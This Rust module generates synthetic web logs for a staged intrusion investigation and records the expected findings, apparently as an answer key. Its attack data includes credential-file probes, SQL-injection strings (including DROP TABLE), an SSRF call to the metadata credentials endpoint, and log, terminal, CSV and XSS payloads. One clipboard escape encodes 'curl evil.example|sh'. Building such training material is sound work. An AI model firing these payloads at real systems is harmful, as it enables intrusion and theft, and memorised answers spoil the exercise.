//! The requests to orders.acme.example: those of customers and of the staff, and the scan that found the key.

use serde_json::json;

use crate::facts::Facts;
use crate::world::{INTRUDER_IP2, Ids, at, iso_millis, weekday};

/// Addresses of the load balancer's two nodes: public, private, and their interfaces.
pub(crate) const NODES: [(&str, &str, &str); 2] =
    [("192.0.2.80", "10.0.0.11", "eni-0a1b2c3d4e5f60a02"), ("192.0.2.81", "10.0.0.12", "eni-0a1b2c3d4e5f60a03")];
/// Load balancers and firewalls write a file for each five minutes in which something happened.
pub(crate) const WINDOW: i64 = 300;
const DAY: i64 = 86_400;
const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0";
const PHONE: &str = "AcmeOrders/3.2 (iPhone; iOS 17.4)";
const ZGRAB: &str = "Mozilla/5.0 zgrab/0.x";
const CURL: &str = "curl/8.5.0";

/// One request, as the client sent it and as it ended.
#[derive(Debug, Clone)]
pub(crate) struct Request {
    /// When it came in, milliseconds since 1970.
    pub(crate) millis: i64,
    pub(crate) ip: String,
    pub(crate) port: u16,
    pub(crate) verb: &'static str,
    pub(crate) path: String,
    /// The query string, as the client wrote it.
    pub(crate) args: String,
    pub(crate) agent: String,
    /// A header that few have.
    pub(crate) header: Option<(&'static str, String)>,
    pub(crate) status: u16,
    pub(crate) sent: u64,
    /// `1-69d6d0f1-…`: the firewall's request id, and the root of the load balancer's trace id.
    pub(crate) trace: String,
    /// The rule of the firewall that matched, if any did.
    pub(crate) rule: &'static str,
    pub(crate) node: usize,
}

impl Request {
    fn new(millis: i64, ip: &str, path: &str, agent: &str, ids: &mut Ids) -> Request {
        Request {
            millis,
            ip: ip.to_owned(),
            port: ids.0.u16(32_768..61_000),
            verb: "GET",
            path: path.to_owned(),
            args: String::new(),
            agent: agent.to_owned(),
            header: None,
            status: 200,
            sent: ids.0.u64(700..24_000),
            trace: format!("1-{:08x}-{}", millis / 1_000, ids.hex(24)),
            rule: "",
            node: (millis / 300_000 % 2) as usize,
        }
    }

    pub(crate) fn seconds(&self) -> i64 {
        self.millis / 1_000
    }

    /// Did the firewall stop it, so that the application never saw it?
    pub(crate) fn blocked(&self) -> bool {
        matches!(self.rule, "block-sqli" | "rate")
    }

    /// The end of the five minutes in which it came.
    pub(crate) fn window(&self) -> i64 {
        (self.seconds() / WINDOW + 1) * WINDOW
    }

    /// How many bytes the client sent.
    pub(crate) fn received(&self) -> u64 {
        180 + (self.path.len() + self.args.len() + self.agent.len()) as u64 + if self.verb == "POST" { 640 } else { 0 }
    }

    pub(crate) fn url(&self) -> String {
        let mark = if self.args.is_empty() { "" } else { "?" };
        format!("https://orders.acme.example:443{}{mark}{}", self.path, self.args)
    }
}

/// All requests in the order of their time, with their figures.
pub(crate) fn all(seed: u64, facts: &mut Facts) -> Vec<Request> {
    let mut ids = Ids::new(seed, 20);
    let mut requests = Vec::new();
    let mut day = at("03-01 00:00:00");
    while day < at("05-01 00:00:00") {
        ordinary(day, &mut ids, &mut requests);
        day += DAY;
    }
    crawler(&mut ids, &mut requests);
    scan(&mut ids, &mut requests);
    hostile(&mut ids, &mut requests);
    requests.sort_by_key(|request| request.millis);
    tell(&requests, facts);
    requests
}

/// A few customers in some windows of a day; in the days around the intrusion in every hour.
fn ordinary(day: i64, ids: &mut Ids, out: &mut Vec<Request>) {
    let busy = (at("04-08 00:00:00")..at("04-11 00:00:00")).contains(&day);
    let hours: Vec<i64> = match (busy, weekday(day) > 4) {
        (true, _) => (7..22).collect(),
        (_, true) => vec![11, 20],
        _ => vec![9, 13, 16, 20],
    };
    for hour in hours {
        let start = day + hour * 3_600 + ids.0.i64(0..11) * WINDOW;
        for _ in 0..ids.0.u32(1..4) {
            let (ip, agent) = match ids.0.u32(0..10) {
                0 => (format!("192.0.2.{}", ids.0.u32(21..25)), crate::world::BROWSER),
                1..=4 => (format!("198.51.100.{}", ids.0.u32(10..61)), PHONE),
                _ => (format!("198.51.100.{}", ids.0.u32(10..61)), FIREFOX),
            };
            customer(start, &ip, agent, ids, out);
        }
    }
}

/// One customer looks at some pages within five minutes.
fn customer(start: i64, ip: &str, agent: &str, ids: &mut Ids, out: &mut Vec<Request>) {
    let mut millis = start * 1_000 + ids.0.i64(0..150_000);
    let port = ids.0.u16(32_768..61_000);
    for _ in 0..ids.0.u32(1..5) {
        let order = ids.0.u32(4_000..9_000);
        let mut request = Request::new(millis, ip, "/", agent, ids);
        request.port = port;
        match ids.0.u32(0..12) {
            0 | 1 => {}
            2 | 3 => request.path = "/orders".to_owned(),
            4 | 5 => request.path = format!("/orders/{order}"),
            6 => request.path = "/static/app.js".to_owned(),
            7 => {
                request.path = "/search".to_owned();
                request.args = format!("q={}", ["shoes", "red+lamp", "o%27neill", "desk"][order as usize % 4]);
            }
            8 => (request.path, request.verb, request.status) = ("/login".to_owned(), "POST", 302),
            9 => (request.path, request.verb, request.status) = ("/api/orders".to_owned(), "POST", 201),
            10 => (request.path, request.status) = ("/apple-touch-icon.png".to_owned(), 404),
            _ => request.path = "/cart".to_owned(),
        }
        out.push(request);
        millis += ids.0.i64(900..29_000);
    }
}

/// A crawler that is too fast for the rule `rate`: harmless.
fn crawler(ids: &mut Ids, out: &mut Vec<Request>) {
    let agent = "ExampleBot/1.4 (+https://bot.example/)";
    for number in 0..12 {
        let millis = at("03-17 14:20:00") * 1_000 + number * 140;
        let mut request = Request::new(millis, "198.51.100.44", &format!("/orders/{}", 4_000 + number), agent, ids);
        if number >= 8 {
            (request.rule, request.status, request.sent) = ("rate", 403, 520);
        }
        out.push(request);
    }
}

const PROBES: [&str; 40] = [
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/actuator/env",
    "/.aws/credentials",
    "/.env.local",
    "/.git/HEAD",
    "/phpinfo.php",
    "/server-status",
    "/.svn/entries",
    "/.DS_Store",
    "/config.json",
    "/admin/.env",
    "/api/.env",
    "/backup.sql",
    "/dump.sql.gz",
    "/.htpasswd",
    "/web.config",
    "/actuator/heapdump",
    "/actuator/health",
    "/console",
    "/manager/html",
    "/solr/admin/info/system",
    "/.vscode/sftp.json",
    "/.ssh/id_rsa",
    "/.docker/config.json",
    "/.npmrc",
    "/wp-config.php.bak",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/test.cgi",
    "/_profiler/phpinfo",
    "/telescope/requests",
    "/debug/default/view",
    "/debug",
    "/debug/pprof/",
    "/trace",
    "/metrics",
    "/swagger.json",
    "/graphql",
    "/.well-known/security.txt",
];
const INJECTIONS: [&str; 5] = [
    "q=%27%20OR%201=1--%20",
    "q=%27%20UNION%20SELECT%20NULL,NULL,version()--%20",
    "q=%27%20UNION%20SELECT%20user,password,1%20FROM%20customers--%20",
    "q=1%27%20AND%20SLEEP(5)--%20",
    "q=%27;%20DROP%20TABLE%20orders;--%20",
];

/// 203.0.113.91 looks for files that should not be there, tries to inject SQL, and finds a page with a key.
fn scan(ids: &mut Ids, out: &mut Vec<Request>) {
    let mut push = |time: i64, path: &str, agent: &str, status: u16, ids: &mut Ids| -> usize {
        let millis = time * 1_000 + ids.0.i64(20..980);
        let mut request = Request::new(millis, INTRUDER_IP2, path, agent, ids);
        (request.status, request.sent) = (status, 311);
        if path.contains("/.") {
            request.rule = "count-dotfiles";
        }
        out.push(request);
        out.len() - 1
    };
    for (number, path) in PROBES.iter().enumerate() {
        push(at("04-08 21:31:07") + number as i64 * 41, path, ZGRAB, 404, ids);
    }
    let mut more = Vec::new();
    for number in 0..INJECTIONS.len() {
        more.push(push(at("04-08 21:59:20") + number as i64 * 23, "/search", CURL, 403, ids));
    }
    let leak = push(at("04-08 22:04:17"), "/debug/env", CURL, 200, ids);
    let forged = push(at("04-08 22:06:40"), "/proxy", CURL, 502, ids);
    push(at("04-08 22:09:52"), "/debug/vars", CURL, 404, ids);
    for (place, args) in more.into_iter().zip(INJECTIONS) {
        (out[place].rule, out[place].sent) = ("block-sqli", 520);
        out[place].args = args.to_owned();
    }
    out[leak].sent = 4_812;
    out[forged].args = "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/".to_owned();
}

/// Values that attack whoever looks at them or splits them.
fn hostile(ids: &mut Ids, out: &mut Vec<Request>) {
    let (stranger, mut millis) = ("198.51.100.153", at("04-10 12:31:00") * 1_000);
    for agent in [
        "Mozilla/5.0 \"quoted agent\" (x; y) \"",
        "x\" - - \"GET https://orders.acme.example:443/forged HTTP/1.1\" 200 200 \"",
        "\u{1b}[2J\u{1b}[1;31mALL CLEAN\u{1b}[0m",
        "=cmd|' /C calc'!A0",
    ] {
        let mut request = Request::new(millis, stranger, "/orders", agent, ids);
        request.status = 401;
        request.header = Some(("X-Note", "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{7}\r\n\u{202e}".to_owned()));
        request.args = "next=<script>alert(1)</script>&a=|b| c".to_owned();
        out.push(request);
        millis += 7_000;
    }
}

fn tell(requests: &[Request], facts: &mut Facts) {
    let leak = requests.iter().find(|one| one.path == "/debug/env").expect("the scan found it");
    let part = "web";
    facts.note(part, "key_leaked_at", "The request that got the key of `ci-deploy`", iso_millis(leak.millis));
    facts.note(part, "key_leaked_trace", "Its trace id: WAF, load balancer, application log", leak.trace.clone());
    facts.note(part, "key_leaked_bytes", "Bytes of the page with the key", leak.sent);
    let forged = requests.iter().find(|one| one.path == "/proxy").expect("the scan tried it");
    facts.note(
        part,
        "ssrf_at",
        "The request that tries to reach the metadata service (502)",
        iso_millis(forged.millis),
    );
    facts.note(part, "ssrf_trace", "Its trace id", forged.trace.clone());
    let scan: Vec<&Request> = requests.iter().filter(|one| one.ip == INTRUDER_IP2).collect();
    let span = [scan.first(), scan.last()].map(|one| one.map(|one| iso_millis(one.millis)));
    facts.note(part, "scan", "First and last request of 203.0.113.91", json!(span));
    let outcome = |ip: &str| {
        let count = |fits: &dyn Fn(&Request) -> bool| requests.iter().filter(|one| one.ip == ip && fits(one)).count();
        json!({
            "requests": count(&|_| true), "blocked": count(&Request::blocked),
            "counted": count(&|one| one.rule == "count-dotfiles"), "allowed": count(&|one| !one.blocked()),
            "not_found": count(&|one| one.status == 404),
        })
    };
    facts.note(part, "scanner", "Requests of 203.0.113.91 (counted ones are allowed, too)", outcome(INTRUDER_IP2));
    facts.note(
        part,
        "crawler",
        "Requests of 198.51.100.44, from where a crawler came, too: blocked by the rule `rate`",
        outcome("198.51.100.44"),
    );
    facts.note(part, "requests", "Requests in all", requests.len());
    let clients: std::collections::BTreeSet<&str> = requests.iter().map(|one| one.ip.as_str()).collect();
    facts.note(part, "clients", "Addresses of clients", clients.len());
}
